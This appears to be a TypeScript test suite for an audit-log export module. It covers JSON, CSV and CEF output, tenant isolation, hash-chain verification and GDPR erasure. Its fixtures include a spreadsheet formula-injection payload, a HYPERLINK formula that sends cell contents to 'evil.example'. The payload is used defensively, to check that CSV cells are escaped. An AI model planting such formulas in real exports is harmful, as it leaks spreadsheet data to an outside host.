import { PassThrough, Writable } from 'node:stream';
import { finished } from 'node:stream/promises';
import { parse } from 'csv-parse/sync';
import { appendAuditEvents } from '../../src/audit/append.js';
import { eventHash, GENESIS_HASH } from '../../src/audit/chain.js';
import { eraseSubject } from '../../src/audit/erase.js';
import { exportAudit, type ExportFormat } from '../../src/audit/export/index.js';
import type { Actor, AuditEventInput, AuditRecord } from '../../src/audit/types.js';
import { fixedClock } from '../../src/shared/clock.js';
import { createTenant } from '../../src/tenancy/service.js';
import { withTenant } from '../../src/db/tenant-scope.js';
import { openTestDb, type TestDb } from '../support/db.js';

const actor: Actor = { type: 'cli', id: 'ops' };
const clock = fixedClock('2026-12-01T09:00:00.000Z');

const RECORD_KEYS = [
  'tenantId',
  'seq',
  'eventId',
  'occurredAt',
  'actorType',
  'actorId',
  'action',
  'targetType',
  'targetId',
  'payloadDigest',
  'payload',
  'erasedAt',
  'prevHash',
  'hash',
].sort();

const CSV_HEADER = [
  'tenantId',
  'seq',
  'eventId',
  'occurredAt',
  'actorType',
  'actorId',
  'action',
  'targetType',
  'targetId',
  'payload',
  'erasedAt',
  'payloadDigest',
  'prevHash',
  'hash',
];

const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")';

const nastyPayload = {
  note: 'line one\nline two\r\nline "three", with commas',
  formula: FORMULA,
  unicode: 'ünïcødé ✓ 😀',
  nested: { list: [1, 2.5, null, true, 'x'], empty: {} },
};

let db: TestDb;
let acme: string;
let globex: string;
let big: string;
const BIG_EXTRA = 2_600;

const acmeEvents: AuditEventInput[] = [
  { action: 'user.created', actor, subject: 'alice', payload: nastyPayload },
  {
    action: 'user.patched',
    actor: { type: 'token', id: FORMULA },
    target: { type: 'user', id: '@SUM(A1:A9)' },
  },
  { action: 'user.created', actor, subject: 'bob', payload: { email: 'bob@example.com' } },
  { action: 'seat.granted', actor: { type: 'job' } },
];

beforeAll(async () => {
  db = await openTestDb();
  acme = (await createTenant(db.knex, 'Acme', { actor, clock })).id;
  globex = (await createTenant(db.knex, 'Globex', { actor, clock })).id;
  big = (await createTenant(db.knex, 'Big', { actor, clock })).id;
  await withTenant(db.knex, acme, (trx) => appendAuditEvents(trx, acme, acmeEvents, clock));
  await eraseSubject(db.knex, acme, 'bob', { actor, reason: 'GDPR request' }, clock);
  await withTenant(db.knex, globex, (trx) =>
    appendAuditEvents(
      trx,
      globex,
      [
        {
          action: 'user.created',
          actor,
          subject: 'carol',
          payload: { email: 'carol@globex.example' },
        },
      ],
      clock,
    ),
  );
  await withTenant(db.knex, big, (trx) =>
    appendAuditEvents(
      trx,
      big,
      Array.from({ length: BIG_EXTRA }, (_, i) => ({
        action: 'seat.assigned',
        actor,
        target: { type: 'seat', id: `seat-${i}` },
        subject: `user-${i}`,
        payload: { i },
      })),
      clock,
    ),
  );
});
afterAll(() => db.close());

/** A destination that keeps what it is given, as a file or a socket would. */
function collector() {
  const chunks: Buffer[] = [];
  const out = new Writable({
    write(chunk: Buffer | string, _enc, done) {
      chunks.push(Buffer.from(chunk));
      done();
    },
  });
  return { out, text: () => Buffer.concat(chunks).toString('utf8') };
}

async function exported(
  format: ExportFormat,
  tenantId?: string,
): Promise<{ n: number; text: string; lines: string[] }> {
  const { out, text } = collector();
  const n = await exportAudit(db.knex, { format, out, tenantId });
  const t = text();
  expect(t.endsWith('\n')).toBe(true);
  return { n, text: t, lines: t.slice(0, -1).split('\n') };
}

const csvRows = (text: string) => parse(text, { columns: true }) as Array<Record<string, string>>;

describe('JSON lines export', () => {
  test('writes one JSON object per line, one line per event, in order', async () => {
    const { n, lines } = await exported('json', acme);
    expect(n).toBe(8);
    expect(lines).toHaveLength(8);
    const records = lines.map((l) => JSON.parse(l) as AuditRecord);
    expect(records.map((r) => r.seq)).toEqual([1, 2, 3, 4, 5, 6, 7, 8]);
    expect(records.map((r) => r.action)).toEqual([
      'tenant.created',
      'token.created',
      'token.created',
      'user.created',
      'user.patched',
      'user.created',
      'seat.granted',
      'audit.payload_erased',
    ]);
    for (const r of records) expect(Object.keys(r).sort()).toEqual(RECORD_KEYS);
  });

  test('never includes the payload salt', async () => {
    const { text, lines } = await exported('json');
    expect(text).not.toMatch(/salt/i);
    const salts = (await db.owner('audit_events').whereNotNull('salt').pluck('salt')) as Buffer[];
    expect(salts.length).toBeGreaterThan(0);
    for (const s of salts.slice(0, 50)) {
      expect(text).not.toContain(s.toString('hex'));
      expect(text).not.toContain(s.toString('base64'));
    }
    expect(lines.every((l) => !('salt' in (JSON.parse(l) as object)))).toBe(true);
  });

  test('payloads round-trip, and an erased payload is null with the time of its erasure', async () => {
    const records = (await exported('json', acme)).lines.map((l) => JSON.parse(l) as AuditRecord);
    expect(records[3]).toMatchObject({ payload: nastyPayload, erasedAt: null });
    expect(records[4]).toMatchObject({
      payload: null,
      payloadDigest: null,
      actorType: 'token',
      actorId: FORMULA,
      targetId: '@SUM(A1:A9)',
    });
    expect(records[5]).toMatchObject({ payload: null, erasedAt: clock.now().toISOString() });
    expect(records[5]!.payloadDigest).toMatch(/^[0-9a-f]{64}$/);
    expect(records[7]).toMatchObject({
      payload: { payloadsErased: 1, reason: 'GDPR request' },
      targetId: 'bob',
    });
  });

  test('an exported chain can be verified outside the database', async () => {
    const records = (await exported('json', acme)).lines.map((l) => JSON.parse(l) as AuditRecord);
    let prev = GENESIS_HASH;
    for (const r of records) {
      expect(r.prevHash).toBe(prev);
      const { tenantId, seq, prevHash, hash, payload: _p, erasedAt: _e, ...fields } = r;
      expect(eventHash(prevHash, seq, tenantId, fields)).toBe(hash);
      prev = hash;
    }
  });

  test('can be written to a stream that stays open for more', async () => {
    const out = new PassThrough();
    let text = '';
    out.on('data', (c: Buffer) => (text += c.toString('utf8')));
    expect(await exportAudit(db.knex, { format: 'json', out, tenantId: globex })).toBe(4);
    expect(out.writableEnded).toBe(false);
    out.end('{"trailer":true}\n');
    await finished(out);
    expect(text.trimEnd().split('\n')).toHaveLength(5);
  });
});

describe('CSV export', () => {
  test('has a header row with every column, then one row per event', async () => {
    const { n, text } = await exported('csv', acme);
    const [header, ...rows] = parse(text) as string[][];
    expect(header).toEqual(CSV_HEADER);
    expect(rows).toHaveLength(8);
    expect(n).toBe(8);
    expect(csvRows(text).map((r) => r.seq)).toEqual(['1', '2', '3', '4', '5', '6', '7', '8']);
  });

  test('payload JSON round-trips through a CSV parser, newlines, quotes and commas included', async () => {
    const rows = csvRows((await exported('csv', acme)).text);
    expect(JSON.parse(rows[3]!.payload!)).toEqual(nastyPayload);
    expect(JSON.parse(rows[7]!.payload!)).toEqual({ payloadsErased: 1, reason: 'GDPR request' });
    expect(rows[4]!.payload).toBe('');
    expect(rows[5]).toMatchObject({ payload: '', erasedAt: clock.now().toISOString() });
  });

  test('a cell starting with = or @ is escaped against formula injection', async () => {
    const rows = csvRows((await exported('csv', acme)).text);
    expect(rows[4]).toMatchObject({ actorId: `'${FORMULA}`, targetId: "'@SUM(A1:A9)" });
    for (const row of rows) {
      for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    }
  });

  test('never includes the payload salt', async () => {
    const { text } = await exported('csv');
    expect(text).not.toMatch(/salt/i);
    expect(Object.keys(csvRows(text)[0]!)).toEqual(CSV_HEADER);
  });
});

describe('CEF export', () => {
  test('writes one line per event, even when its strings hold newlines', async () => {
    const { n, lines } = await exported('cef', acme);
    expect(n).toBe(8);
    expect(lines).toHaveLength(8);
    for (const line of lines) {
      expect(line.startsWith('CEF:0|Seatkeeper|Seatkeeper|0.1.0|')).toBe(true);
      expect(line).not.toMatch(/\r/);
      expect(line).toContain(` cs1=${acme} `);
    }
    expect(lines.map((l) => /cn1=(\d+)/.exec(l)![1])).toEqual([
      '1',
      '2',
      '3',
      '4',
      '5',
      '6',
      '7',
      '8',
    ]);
    expect(lines[3]).toContain(String.raw`line one\\nline two\\r\\nline`);
  });
});

describe('exports by tenant', () => {
  test.each(['json', 'csv', 'cef'] as const)(
    "a %s export of one tenant never includes another tenant's events",
    async (format) => {
      const { n, text } = await exported(format, globex);
      expect(n).toBe(4);
      expect(text).toContain(globex);
      expect(text).not.toContain(acme);
      expect(text).not.toContain(big);
      expect(text).not.toContain('alice');
    },
  );

  test('an export of every tenant holds every event, tenant by tenant', async () => {
    const { n, lines } = await exported('json');
    expect(n).toBe(8 + 4 + 3 + BIG_EXTRA);
    const records = lines.map((l) => JSON.parse(l) as AuditRecord);
    const byTenant = new Map<string, number[]>();
    for (const r of records) byTenant.set(r.tenantId, [...(byTenant.get(r.tenantId) ?? []), r.seq]);
    expect(byTenant.get(acme)).toHaveLength(8);
    expect(byTenant.get(globex)).toHaveLength(4);
    expect(byTenant.get(big)).toHaveLength(3 + BIG_EXTRA);
    // Each tenant's events come together, and in order.
    expect(new Set(records.map((r) => r.tenantId)).size).toBe(3);
    const tenantOrder = records
      .map((r) => r.tenantId)
      .filter((t, i, a) => i === 0 || a[i - 1] !== t);
    expect(tenantOrder).toHaveLength(3);
    for (const seqs of byTenant.values()) {
      expect(seqs).toEqual(Array.from({ length: seqs.length }, (_, i) => i + 1));
    }
  });
});

describe('large exports', () => {
  test('an export of 2,600 events crosses batch boundaries without losing or repeating one', async () => {
    let ticks = 0;
    const { out, text } = collector();
    const n = await exportAudit(db.knex, {
      format: 'json',
      out,
      tenantId: big,
      onEvent: () => (ticks += 1),
    });
    const total = 3 + BIG_EXTRA;
    expect(n).toBe(total);
    expect(ticks).toBe(total);
    const records = text()
      .trimEnd()
      .split('\n')
      .map((l) => JSON.parse(l) as AuditRecord);
    expect(records.map((r) => r.seq)).toEqual(Array.from({ length: total }, (_, i) => i + 1));
    expect(new Set(records.map((r) => r.eventId)).size).toBe(total);
    expect(records[999]!.payload).toEqual({ i: 996 });
    expect(records[1000]!.payload).toEqual({ i: 997 });
    expect(records[total - 1]!.payload).toEqual({ i: BIG_EXTRA - 1 });
  });

  test('a large CSV and CEF export has one row or line per event', async () => {
    const csv = await exported('csv', big);
    expect(csvRows(csv.text)).toHaveLength(3 + BIG_EXTRA);
    const cef = await exported('cef', big);
    expect(cef.lines).toHaveLength(3 + BIG_EXTRA);
    expect(cef.n).toBe(3 + BIG_EXTRA);
  });
});
